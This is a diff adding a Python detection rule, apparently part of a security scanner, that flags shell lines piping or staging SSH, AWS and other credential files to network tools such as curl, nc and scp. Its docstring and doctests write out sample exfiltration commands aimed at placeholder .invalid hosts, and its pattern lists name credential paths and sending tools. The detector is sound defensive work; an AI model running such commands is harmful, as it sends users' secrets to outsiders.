@@ -1,0 +1,205 @@
+"""Credentials packed, piped or staged in a file, then sent out by a later command.
+
+The single-line ``credential-exfil`` pattern sees a credential path *on* the sending
+command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret along:
+
+* through a pipe: ``tar czf - ~/.ssh | curl -T - https://drop.invalid``;
+* through a file: ``tar czf /tmp/k.tgz ~/.ssh`` and, later, ``curl -F f=@/tmp/k.tgz …``.
+
+Commands are split into words with :mod:`shlex` (text only, nothing runs). A public key
+(``id_rsa.pub``) and paths given to ``--exclude`` are not credentials.
+
+>>> pipes_credentials_out("tar czf - ~/.ssh | gzip | curl -T - https://x.invalid")
+True
+>>> pipes_credentials_out("cat ~/.ssh/id_rsa.pub | ssh host 'cat >> .ssh/authorized_keys'")
+False
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Iterator
+
+from .findings import ThreatFinding, line_at
+
+RULE_ID = "shell.credential-staging"
+
+_CREDENTIAL = re.compile(
+    r"(?:^|[/=@])(?:\.ssh|\.aws|\.netrc|\.git-credentials|\.docker|\.kube|\.gnupg|\.env"
+    r"|id_rsa|id_ed25519|id_ecdsa|credentials(?:\.json)?|\.npmrc|\.pypirc)(?:/|$)"
+    r"|(?:^|/)(?:id_rsa|id_ed25519|id_ecdsa)$"
+)
+_EXCLUDE_FLAGS = frozenset({"--exclude", "-x", "--exclude-from", "-X"})
+_ENV_DUMPS = frozenset({"env", "printenv"})
+_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync"})
+_PREFIXES = frozenset({"sudo", "command", "exec", "nohup", "time"})
+_SEPARATORS = frozenset({"&&", "||", ";", "&", "\n"})
+_NOT_READING = frozenset(
+    {"echo", "printf", "ls", "chmod", "chown", "mkdir", "ssh-keygen", "test", "["}
+)
+_REDIRECTIONS = frozenset({">", ">>", "<", ">&", "<&", "&>", ">|"})
+_MAX_LINE = 2000
+
+
+def _words(line: str) -> list[str]:
+    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    lexer.commenters = "#"
+    try:
+        return list(lexer)
+    except ValueError:  # unbalanced quotes: fall back to plain splitting
+        return line.split()
+
+
+def _commands(line: str) -> Iterator[list[list[str]]]:
+    """Each command of a shell line, as its pipeline stages (each a list of words)."""
+    stages: list[list[str]] = [[]]
+    for word in _words(line[:_MAX_LINE]):
+        if word in _SEPARATORS:
+            yield stages
+            stages = [[]]
+        elif word in ("|", "|&"):
+            stages.append([])
+        else:
+            stages[-1].append(word)
+    yield stages
+
+
+def _verb_index(stage: list[str]) -> int:
+    """Index of the program a stage runs, past ``sudo``-like prefixes and assignments."""
+    for index, word in enumerate(stage):
+        if word in _PREFIXES or (not word.startswith("-") and "=" in word.split("/")[0]):
+            continue
+        return index
+    return len(stage)
+
+
+def _verb(stage: list[str]) -> str:
+    index = _verb_index(stage)
+    return stage[index].rsplit("/", 1)[-1] if index < len(stage) else ""
+
+
+def _names_credential(word: str) -> bool:
+    return not word.endswith(".pub") and bool(_CREDENTIAL.search(word.rstrip("/")))
+
+
+def _reads_credentials(stage: list[str]) -> bool:
+    """The stage names a credential path (not one it excludes), or dumps the environment."""
+    verb = _verb(stage)
+    arguments = _without_redirections(stage[_verb_index(stage) + 1 :])
+    if verb in _ENV_DUMPS:
+        return not [w for w in arguments if not w.startswith("-")]
+    if verb in _NOT_READING:
+        return False
+    for before, word in zip(["", *arguments], arguments, strict=False):
+        if before in _EXCLUDE_FLAGS or word.startswith("--exclude="):
+            continue
+        if _names_credential(word):
+            return True
+    return False
+
+
+def _without_redirections(words: list[str]) -> list[str]:
+    """``words`` less redirections: operators, their targets and file numbers (``2>&1``)."""
+    kept: list[str] = []
+    after_operator = False
+    for index, word in enumerate(words):
+        following = words[index + 1] if index + 1 < len(words) else ""
+        if after_operator:
+            after_operator = False
+        elif word in _REDIRECTIONS:
+            after_operator = True
+        elif not (word.isdigit() and following in _REDIRECTIONS):
+            kept.append(word)
+    return kept
+
+
+def _archive_written(verb: str, arguments: list[str]) -> str:
+    """The archive or output file a packing command writes (``-`` for standard output)."""
+    if verb == "tar":
+        for index, word in enumerate(arguments):
+            following = arguments[index + 1] if index + 1 < len(arguments) else ""
+            if word.startswith("--file="):
+                return word.split("=", 1)[1]
+            if word in ("-f", "--file"):
+                return following
+            if index == 0 and word.lstrip("-").isalpha() and word.endswith("f"):
+                return following
+        return ""
+    if verb in ("zip", "7z", "7za"):
+        rest = [w for w in arguments if not w.startswith("-")]
+        if verb != "zip" and rest and rest[0] in ("a", "u"):
+            rest = rest[1:]
+        return rest[0] if rest else ""
+    for before, word in zip(arguments, arguments[1:], strict=False):
+        if before in ("-o", "--output", "-out"):
+            return word
+    return arguments[-1] if verb == "cp" and len(arguments) >= 2 else ""
+
+
+def _written_file(stage: list[str]) -> str:
+    """The file a stage writes: its redirection, or the archive it packs."""
+    for before, word in zip(stage, stage[1:], strict=False):
+        if before in (">", ">>"):
+            return word
+    return _archive_written(_verb(stage), stage[_verb_index(stage) + 1 :])
+
+
+def _sends(stage: list[str]) -> bool:
+    return _verb(stage) in _SENDERS
+
+
+def _sends_file(stage: list[str], name: str) -> bool:
+    return _sends(stage) and any(
+        word == name or word.endswith(("@" + name, "=" + name)) for word in stage
+    )
+
+
+def _pipes_out(stages: list[list[str]]) -> bool:
+    return any(
+        _reads_credentials(stage) and any(_sends(later) for later in stages[index + 1 :])
+        for index, stage in enumerate(stages[:-1])
+    )
+
+
+def pipes_credentials_out(command_line: str) -> bool:
+    """A stage reads credentials and a later stage of the same pipeline sends data."""
+    return any(_pipes_out(stages) for stages in _commands(command_line))
+
+
+def credential_staging(path: str, text: str) -> list[ThreatFinding]:
+    """Findings for credentials piped to a sender, or written to a file that is sent later."""
+    lines = text.splitlines()
+    staged: dict[str, int] = {}
+    findings = []
+    for number, line in enumerate(lines, 1):
+        if not line.strip() or line.lstrip().startswith("#"):
+            continue
+        for stages in _commands(line):
+            if _pipes_out(stages):
+                description = "packs or reads credentials and pipes them to a network command"
+                findings.append(_finding(path, lines, number, description))
+                continue
+            sent = [name for name in staged if any(_sends_file(s, name) for s in stages)]
+            if sent:
+                name = min(sent, key=staged.__getitem__)
+                description = (
+                    f"credentials written to {name} (line {staged[name]}) are sent over the network"
+                )
+                findings.append(_finding(path, lines, number, description))
+                continue
+            reader = next((i for i, s in enumerate(stages) if _reads_credentials(s)), None)
+            if reader is None:
+                continue
+            for stage in stages[reader:]:
+                written = _written_file(stage)
+                if written and written != "-" and not _names_credential(written):
+                    staged.setdefault(written, number)
+    return findings
+
+
+def _finding(path: str, lines: list[str], number: int, description: str) -> ThreatFinding:
+    return ThreatFinding(
+        "8.2", "critical", path, number, line_at(lines, number), description, RULE_ID
+    )
